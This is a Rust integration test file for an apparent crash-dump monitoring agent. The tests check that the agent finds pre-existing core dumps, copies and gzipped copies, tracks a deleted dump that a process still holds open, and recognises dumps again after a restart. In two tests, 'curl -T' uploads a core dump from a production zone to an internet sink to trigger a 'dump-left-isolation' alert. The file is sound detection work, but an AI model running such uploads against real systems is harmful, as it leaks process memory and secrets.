//! Dumps that were there before the agent.

use std::{fs, path::Path, process::Command, time::Duration};

use sensor_abi::flow::Via;
use sensor_user::step::{DumpKind, Severity, StepKind};

use super::Own;
use crate::harness::{
    agent::{Agent, Setup},
    crash::{Pattern, crash},
    expect::step,
    guard::Running,
    line::{Line, Step},
    roles,
    scene::{Dump, SOON, Scene, appears, extent, of_python, python},
    world::{
        World,
        Zone::{Internet, Production},
        in_zone,
    },
};

pub(super) const ALL: &[Own] =
    &[("found::at_rest", at_rest), ("found::in_hands", in_hands), ("found::known_again", known_again)];

/// A core that nobody watched being born.
fn old_core(folder: &Path) -> String {
    let pid = {
        let _pattern = Pattern::set(folder.join("core.%P").to_str().unwrap());
        crash(in_zone(Production, roles::program("victim")).arg("2097152"))
    };
    folder.join(format!("core.{pid}")).to_str().unwrap().to_owned()
}

fn start(world: &World, folder: &Path, dumps: &Path) -> Agent {
    fs::create_dir(folder.join("agent")).unwrap();
    let config = format!("{}dumps: {{folders: [\"{}\"]}}\n", world.config(), dumps.display());
    Agent::start(&folder.join("agent"), &Setup::of(&config))
}

/// Waits until a dump is found under this path.
fn found(agent: &Agent, path: &str) -> Dump {
    let birth = agent.within(SOON, &format!("the dump {path} is found"), |lines| {
        lines.iter().find_map(|line| match line {
            Line::Step(s) if s.kind == StepKind::Found && s.from == path => Some(Step::clone(s)),
            _ => None,
        })
    });
    assert_eq!((birth.via, birth.origin_inferred, birth.origin_zone.as_deref()), (Via::Scan, true, Some("production")));
    let (data, size) = extent(Path::new(path));
    Dump { id: birth.dump.clone().unwrap(), victim: 0, path: path.to_owned(), data, size, birth }
}

fn content(agent: &Agent, dump: &Dump) -> String {
    agent.within(SOON, "the content of a found dump", |lines| {
        lines.iter().find_map(|line| match line {
            Line::Notice(n) if n.dump.as_ref() == Some(&dump.id) => n.content.clone(),
            _ => None,
        })
    })
}

/// A core, a copy and a compressed one: three dumps of one content. What happens to them then is followed.
fn at_rest() {
    let (world, folder) = (World::make(), tempfile::tempdir().unwrap());
    let dumps = folder.path().join("crash");
    fs::create_dir(&dumps).unwrap();
    let core = old_core(&dumps);
    fs::copy(&core, dumps.join("other-name")).unwrap();
    assert!(Command::new("gzip").args(["-1", "-k", &core]).status().unwrap().success());
    let agent = start(&world, folder.path(), &dumps);
    let scene = Scene::new(&agent);
    let dump = found(&agent, &core);
    assert_eq!((dump.birth.dump_kind, dump.birth.dump_size), (Some(DumpKind::KernelCore), Some(dump.size)));
    let others = [found(&agent, dumps.join("other-name").to_str().unwrap()), found(&agent, &format!("{core}.gz"))];
    let name = content(&agent, &dump);
    for other in &others {
        assert_ne!(other.id, dump.id);
        assert_eq!(content(&agent, other), name, "{} has the same content", other.path);
    }
    let (mut sink, port) = scene.sink(Internet, Production, others[1].size);
    let url = format!("http://{}:{port}/up", Internet.address(Production));
    scene.run(Production, "curl", &["-sS", "-T", &others[1].path, &url]);
    assert!(sink.within(SOON).success());
    let sent = step(StepKind::Sent).via(Via::Tcp).from("curl[]").zones("production", "internet");
    let alert = scene.alerts(&others[1], "dump-left-isolation", Severity::Critical, &sent);
    assert_eq!(alert.step.content, Some(name));
    agent.stop();
}

/// Deleted, but open in a process.
fn in_hands() {
    let (world, folder) = (World::make(), tempfile::tempdir().unwrap());
    let core = old_core(folder.path());
    let script = "import os, sys, time\nf = open(sys.argv[1], 'rb'); os.unlink(sys.argv[1])
open(sys.argv[1] + '.held', 'w').close()
while not os.path.exists(sys.argv[1] + '.go'): time.sleep(.01)
f.read(); time.sleep(60)";
    let holder = Running::start(in_zone(Production, python()).args(["-c", script, &core]));
    assert!(appears(format!("{core}.held"), SOON), "the holder has not opened it");
    let agent = start(&world, folder.path(), &folder.path().join("agent"));
    let about = |s: &Step| s.kind == StepKind::Found && s.from.starts_with(&format!("/proc/{}/fd/", holder.pid()));
    let found = agent.within(SOON, "the held dump is found", |lines| {
        lines.iter().find_map(|l| match l {
            Line::Step(s) if about(s) => Some(Step::clone(s)),
            _ => None,
        })
    });
    // The flow hooks stand within this time.
    std::thread::sleep(std::time::Duration::from_secs(1));
    fs::write(format!("{core}.go"), "").unwrap();
    let scene = Scene::new(&agent);
    let reader = of_python(holder.pid());
    let read = step(StepKind::Read).to(reader).between(2_000_000, u64::MAX);
    scene.sees_of(found.dump.as_deref().unwrap(), &read);
    agent.stop();
}

/// What an agent knew, the next one knows again, under the same id and wherever it lies by now; but for what somebody else
/// has written to meanwhile.
fn known_again() {
    let (world, folder) = (World::make(), tempfile::tempdir().unwrap());
    let (agent, dumps) = (folder.path().join("agent"), folder.path().join("dumps"));
    for folder in [&agent, &dumps] {
        fs::create_dir(folder).unwrap();
    }
    let setup = Setup::of(&world.config());
    let path = |name: &str| dumps.join(name).to_str().unwrap().to_owned();
    let first = Agent::start(&agent, &setup);
    let scene = Scene::new(&first);
    let dump = scene.core_in(&dumps);
    for copy in ["copy", "lost"] {
        scene.run(Production, "cp", &[&dump.path, &path(copy)]);
        scene.sees(&dump, &step(StepKind::Written).to(path(copy)));
    }
    scene.shell(Production, &format!("gzip -1 < {} > {}", dump.path, path("packed")));
    scene.sees(&dump, &step(StepKind::Written).to(path("packed")));
    fs::rename(path("copy"), path("renamed")).unwrap();
    scene.sees(&dump, &step(StepKind::Renamed).to(path("renamed")));
    drop(scene);
    first.stop();
    std::thread::sleep(Duration::from_secs(2));
    fs::write(path("lost"), "other data ".repeat(1000)).unwrap();

    let second = Agent::start(&agent, &setup);
    let scene = Scene::new(&second);
    let again: Vec<_> = [dump.path.clone(), path("renamed"), path("packed")]
        .iter()
        .map(|path| scene.sees(&dump, &step(StepKind::Found).from(path)))
        .collect();
    assert!(again.iter().all(|found| !found.origin_inferred && found.origin_zone.as_deref() == Some("production")));
    for name in ["renamed", "packed"] {
        let (mut sink, port) = scene.sink(Internet, Production, 1);
        let url = format!("http://{}:{port}/up", Internet.address(Production));
        scene.run(Production, "curl", &["-sS", "-T", &path(name), &url]);
        assert!(sink.within(SOON).success());
        let sent = step(StepKind::Sent).via(Via::Tcp).from("curl[]").destination(Internet.address(Production), port);
        scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &sent);
    }
    let lost = second.steps_where(|step| step.from == path("lost"));
    assert!(lost.is_empty(), "it is no dump any more: {lost:#?}");
    drop(scene);
    second.stop();
}
